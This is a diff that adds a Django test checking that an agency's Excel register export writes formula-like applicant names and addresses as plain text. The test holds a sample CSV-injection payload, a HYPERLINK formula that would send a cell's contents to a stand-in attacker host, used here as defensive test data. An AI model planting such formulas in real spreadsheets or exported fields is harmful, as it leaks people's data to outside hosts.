@@ -105,3 +105,19 @@ def test_the_register_page_does_not_query_per_row(client, filed, django_assert_m
         dossier_in(w, State.IN_PROGRESS)
     with django_assert_max_num_queries(8):
         client.get(url)
+
+
+def test_the_register_writes_a_formula_like_name_as_text(client, filed):
+    """OWASP CSV injection: a citizen named =HYPERLINK(...) must not become a live formula in Excel."""
+    w, _other, (march_2, _march_4, _march_6), _elsewhere = filed
+    hostile = '=HYPERLINK("https://evil.example/?d="&B5,"Xem")'
+    type(march_2).objects.filter(pk=march_2.pk).update(applicant_name=hostile, applicant_address="@SUM(1)")
+    sign_in(client, w.desk.clerk)
+
+    response = client.get(reverse("staff:register_xlsx", args=[w.desk.agency.code]))
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    [name] = [cell for (cell,) in sheet.iter_rows(min_col=3, max_col=3) if cell.value == hostile]
+    assert name.data_type == "s"  # text, not "f"
+    [address] = [cell for (cell,) in sheet.iter_rows(min_col=4, max_col=4) if cell.value == "@SUM(1)"]
+    assert address.data_type == "s"
